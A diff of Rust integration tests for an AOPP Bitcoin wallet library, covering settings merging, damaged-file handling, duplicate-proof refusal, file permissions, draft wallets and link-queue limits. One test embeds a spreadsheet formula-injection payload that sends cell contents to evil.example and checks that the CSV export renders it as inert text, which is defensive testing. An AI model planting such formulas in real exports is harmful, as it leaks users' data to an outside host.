@@ -4,7 +4,8 @@
 use std::path::PathBuf;
 
 use aopp_wallet_lib::api::{DeveloperOptions, WalletApp, DELETE_CONFIRMATION};
-use aopp_wallet_lib::settings::Settings;
+use aopp_wallet_lib::proofs::{EthAccount, ExportFormat};
+use aopp_wallet_lib::settings::{Settings, SettingsChange};
 use aopp_wallet_lib::vault::Vault;
 use wallet_core::{AddressFormat, Network};
 
@@ -36,7 +37,7 @@ fn import_stores_the_phrase_in_the_keyring_and_nowhere_on_disk() {
     assert_eq!(app.reveal_phrase().unwrap().join(" "), ABANDON);
 
     // Nothing under the data directory mentions the phrase.
-    app.set_settings(Settings::default()).unwrap();
+    app.set_settings(SettingsChange::default()).unwrap();
     app.receive_link("aopp:?v=0").unwrap();
     // (The journal is a binary SQLite file: compare bytes.)
     for entry in std::fs::read_dir(&dir).unwrap() {
@@ -137,7 +138,14 @@ fn settings_persist_and_refuse_an_ether_preference() {
         socks5_proxy: Some("socks5://127.0.0.1:9050".into()),
         travel_address: Some("ta2W2HPKfHxgSgrzY178knqXHg1H3jfeQrwQ9JrKBs9wv".into()),
     };
-    app.set_settings(chosen.clone()).unwrap();
+    app.set_travel_address(chosen.travel_address.as_deref().unwrap())
+        .unwrap();
+    app.set_settings(SettingsChange {
+        network: Some(chosen.network),
+        preferred_format: Some(chosen.preferred_format),
+        socks5_proxy: chosen.socks5_proxy.clone(),
+    })
+    .unwrap();
     let reopened = WalletApp::open(
         &dir,
         Vault::with_service("unused"),
@@ -146,16 +154,16 @@ fn settings_persist_and_refuse_an_ether_preference() {
     .unwrap();
     assert_eq!(reopened.settings(), chosen);
     let error = app
-        .set_settings(Settings {
-            preferred_format: AddressFormat::Standard,
-            ..Settings::default()
+        .set_settings(SettingsChange {
+            preferred_format: Some(AddressFormat::Standard),
+            ..SettingsChange::default()
         })
         .unwrap_err();
     assert_eq!(error.code, "not_bitcoin_format");
     let error = app
-        .set_settings(Settings {
+        .set_settings(SettingsChange {
             socks5_proxy: Some("http://127.0.0.1:8080".into()),
-            ..Settings::default()
+            ..SettingsChange::default()
         })
         .unwrap_err();
     assert_eq!(error.code, "bad_proxy");
@@ -214,9 +222,7 @@ fn picked_files_dropped_files_and_camera_frames_queue_the_aopp_code() {
     );
     let path = dir.join("dropped.png");
     std::fs::write(&path, qr_png(&request("Dropped"))).unwrap();
-    let dropped = app
-        .take_files(&[path.to_string_lossy().into_owned()])
-        .unwrap();
+    let dropped = app.take_files(std::slice::from_ref(&path)).unwrap();
     assert_eq!(dropped.queued, 1);
 
     // A camera frame: a grey picture with the code off-centre on a darker background.
@@ -258,9 +264,7 @@ fn empty_frames_and_wrong_files_find_nothing_and_queue_nothing() {
     let error = app.take_image_bytes(b"GIF89a not a png").unwrap_err();
     assert_eq!(error.code, "unreadable_image");
     let missing = dir.join("no-such-file.png");
-    let error = app
-        .take_files(&[missing.to_string_lossy().into_owned()])
-        .unwrap_err();
+    let error = app.take_files(std::slice::from_ref(&missing)).unwrap_err();
     assert_eq!(error.code, "unreadable_file");
 
     // A code that is not an AOPP request is named for what it is and not queued.
@@ -270,4 +274,260 @@ fn empty_frames_and_wrong_files_find_nothing_and_queue_nothing() {
     assert_eq!(named.queued, 0);
     assert_eq!(named.codes[0].kind, wallet_core::scan::CodeKind::Bitcoin);
     assert!(app.links().is_empty());
+}
+
+#[test]
+fn saving_settings_keeps_the_travel_address() {
+    let (app, dir) = app("merge");
+    let travel = "ta2W2HPKfHxgSgrzY178knqXHg1H3jfeQrwQ9JrKBs9wv";
+    app.set_travel_address(travel).unwrap();
+    // What the Settings screen sends: its three fields, never the Travel Address.
+    let change: SettingsChange = serde_json::from_value(serde_json::json!({
+        "network": "testnet", "preferred_format": "p2wpkh", "socks5_proxy": ""
+    }))
+    .unwrap();
+    let saved = app.set_settings(change).unwrap();
+    assert_eq!(saved.network, Network::Testnet);
+    assert_eq!(saved.travel_address.as_deref(), Some(travel));
+    let reopened = WalletApp::open(
+        &dir,
+        Vault::with_service("unused"),
+        DeveloperOptions::default(),
+    )
+    .unwrap();
+    assert_eq!(reopened.settings().travel_address.as_deref(), Some(travel));
+}
+
+#[test]
+fn a_damaged_settings_file_is_kept_aside_and_nothing_is_sent_until_the_user_has_seen_it() {
+    let (app, dir) = app("damaged");
+    app.import(ABANDON, "").unwrap();
+    app.set_settings(SettingsChange {
+        socks5_proxy: Some("socks5://127.0.0.1:9".into()),
+        ..SettingsChange::default()
+    })
+    .unwrap();
+    drop(app);
+    // Cut short, as by a full disk: the proxy must not quietly vanish.
+    let settings = dir.join("settings.json");
+    let text = std::fs::read(&settings).unwrap();
+    std::fs::write(&settings, &text[..text.len() / 2]).unwrap();
+
+    let vault = Vault::with_service(&format!("aopp-wallet-test-damaged-{}", std::process::id()));
+    let app = WalletApp::open(&dir, vault, DeveloperOptions::default()).unwrap();
+    let status = app.status().unwrap();
+    assert_eq!(status.damaged_files.len(), 1);
+    let damaged = &status.damaged_files[0];
+    assert_eq!(damaged.kind, "settings");
+    let kept = damaged.kept_as.clone().expect("kept aside");
+    assert_eq!(std::fs::read(&kept).unwrap(), text[..text.len() / 2]);
+    assert_eq!(app.settings().socks5_proxy, None);
+
+    app.receive_link(&unreachable_request("Damaged")).unwrap();
+    let link = app.links()[0].id;
+    let address = app.preview(link, EthAccount::First).unwrap().address;
+    assert_eq!(
+        app.approve(link, &address, EthAccount::First)
+            .unwrap_err()
+            .code,
+        "damaged_files"
+    );
+    assert!(app.history().unwrap().is_empty(), "nothing signed");
+    app.accept_damaged_files();
+    assert!(app.status().unwrap().damaged_files.is_empty());
+    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
+}
+
+/// A request whose callback nobody answers (the discard port on loopback): delivery fails and
+/// the proof stays pending.
+fn unreachable_request(message: &str) -> String {
+    format!(
+        "aopp:?v=0&msg={message}&asset=btc&format=p2wpkh&callback=https%3A%2F%2F127.0.0.1%3A9%2Fp%2F{message}"
+    )
+}
+
+#[test]
+fn a_link_answered_once_is_not_signed_again_and_its_proof_is_shown() {
+    let (app, dir) = app("once");
+    app.import(ABANDON, "").unwrap();
+    let link = unreachable_request("Once");
+    app.receive_link(&link).unwrap();
+    let id = app.links()[0].id;
+    assert!(app.links()[0].existing_proof.is_none());
+    let address = app.preview(id, EthAccount::First).unwrap().address;
+    let first = app.approve(id, &address, EthAccount::First).unwrap();
+    assert_eq!(
+        first.record.status,
+        wallet_core::journal::ProofStatus::Pending
+    );
+
+    // Clicked again (or re-opened from the browser's history).
+    app.receive_link(&link).unwrap();
+    let again = &app.links()[0];
+    let existing = again
+        .existing_proof
+        .as_ref()
+        .expect("the earlier proof is shown");
+    assert_eq!(existing.record.id, first.record.id);
+    let next = app.preview(again.id, EthAccount::First).unwrap().address;
+    assert_eq!(
+        app.approve(again.id, &next, EthAccount::First)
+            .unwrap_err()
+            .code,
+        "already_proven"
+    );
+    assert_eq!(app.history().unwrap().len(), 1, "one link, one proof");
+    // Still pending: it can be sent again, with the same signature.
+    let resent = app.resend(first.record.id).unwrap();
+    assert_eq!(resent.record.signature, first.record.signature);
+
+    // Exports never overwrite, and a VASP's message cannot become a spreadsheet formula.
+    let exports = dir.join("exports");
+    let csv = app.export_history(ExportFormat::Csv, &exports).unwrap();
+    let second = app.export_history(ExportFormat::Csv, &exports).unwrap();
+    assert_ne!(csv, second);
+    assert!(second.ends_with("aopp-wallet-history-2.csv"));
+    assert_file_mode(&second, 0o600);
+    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
+}
+
+#[test]
+fn a_csv_field_that_reads_as_a_formula_is_made_text() {
+    let (app, dir) = app("formula");
+    app.import(ABANDON, "").unwrap();
+    // =HYPERLINK("http://evil.example?"&A1,"Click") as the VASP's message, percent-encoded.
+    app.receive_link(&format!(
+        "aopp:?v=0&msg=%3DHYPERLINK(%22http%3A%2F%2Fevil.example%3F%22%26A1%2C%22Click%22)\
+         &asset=btc&format=p2wpkh&callback=https%3A%2F%2F127.0.0.1%3A9%2Fp%2Fformula"
+    ))
+    .unwrap();
+    let id = app.links()[0].id;
+    let address = app.preview(id, EthAccount::First).unwrap().address;
+    app.approve(id, &address, EthAccount::First).unwrap();
+    let csv = app.export_history(ExportFormat::Csv, &dir).unwrap();
+    let text = std::fs::read_to_string(csv).unwrap();
+    assert!(
+        text.contains(r#""'=HYPERLINK(""http://evil.example?""&A1,""Click"")""#),
+        "{text}"
+    );
+    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
+}
+
+#[cfg(unix)]
+fn assert_file_mode(path: &std::path::Path, expected: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    let mode = std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, expected, "{}", path.display());
+}
+
+#[cfg(unix)]
+#[test]
+fn the_data_directory_and_every_file_in_it_are_private_whatever_the_umask() {
+    use std::os::unix::fs::PermissionsExt;
+    let (_, dir) = app("modes");
+    // As a user's login leaves it: umask 022, the directory made by someone else at 0755.
+    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let vault = Vault::with_service(&format!("aopp-wallet-test-modes-{}", std::process::id()));
+    let app = WalletApp::open(&dir, vault, DeveloperOptions::default()).unwrap();
+    app.set_settings(SettingsChange::default()).unwrap();
+    app.receive_link("aopp:?v=0").unwrap();
+    assert_file_mode(&dir, 0o700);
+    let mut seen = 0;
+    for entry in std::fs::read_dir(&dir).unwrap() {
+        assert_file_mode(&entry.unwrap().path(), 0o600);
+        seen += 1;
+    }
+    // settings.json, pending-links.json, journal.sqlite3 and its -wal and -shm.
+    assert_eq!(seen, 5);
+}
+
+#[test]
+fn a_wallet_is_never_replaced_by_another() {
+    let (app, _) = app("exists");
+    app.import(ABANDON, "").unwrap();
+    let other = "legal winner thank year wave sausage worth useful legal winner thank yellow";
+    assert_eq!(app.import(other, "").unwrap_err().code, "wallet_exists");
+    let draft = app.create_draft();
+    let answers: Vec<String> = draft
+        .quiz
+        .iter()
+        .map(|position| draft.words[position - 1].to_owned())
+        .collect();
+    assert_eq!(
+        app.confirm_draft(&answers).unwrap_err().code,
+        "wallet_exists"
+    );
+    assert_eq!(app.reveal_phrase().unwrap().join(" "), ABANDON);
+    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
+}
+
+#[test]
+fn a_discarded_draft_cannot_be_stored() {
+    let (app, _) = app("discard");
+    let draft = app.create_draft();
+    app.discard_draft();
+    let answers: Vec<String> = draft
+        .quiz
+        .iter()
+        .map(|position| draft.words[position - 1].to_owned())
+        .collect();
+    assert_eq!(app.confirm_draft(&answers).unwrap_err().code, "no_draft");
+    assert!(!app.status().unwrap().has_wallet);
+}
+
+#[test]
+fn status_sees_a_wallet_without_reading_its_secret() {
+    let (app, _) = app("status");
+    let service = format!("aopp-wallet-test-status-{}", std::process::id());
+    // An item this app cannot read: only reading the secret would find that out.
+    let mut store = std::process::Command::new("secret-tool")
+        .args([
+            "store",
+            "--label=test",
+            "service",
+            &service,
+            "username",
+            "recovery-phrase",
+        ])
+        .stdin(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    store.stdin.take().unwrap().write_all(b"not json").unwrap();
+    assert!(store.wait().unwrap().success());
+    assert!(app.status().unwrap().has_wallet);
+    assert_eq!(app.reveal_phrase().unwrap_err().code, "keyring_corrupt");
+    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
+}
+
+#[test]
+fn dropped_fifos_and_directories_are_refused_unread() {
+    let (app, dir) = app("drop-kinds");
+    std::fs::create_dir_all(&dir).unwrap();
+    let fifo = dir.join("code.png");
+    assert!(std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap()
+        .success());
+    for path in [fifo, dir.clone()] {
+        assert_eq!(
+            app.take_files(std::slice::from_ref(&path))
+                .unwrap_err()
+                .code,
+            "not_a_file"
+        );
+    }
+}
+
+#[test]
+fn a_flood_of_links_stops_at_the_cap_with_its_own_error() {
+    let (app, _) = app("flood");
+    for n in 0..aopp_wallet_lib::link_queue::MAX_LINKS {
+        app.receive_link(&format!("aopp:?n={n}")).unwrap();
+    }
+    assert_eq!(
+        app.receive_link("aopp:?n=more").unwrap_err().code,
+        "queue_full"
+    );
 }
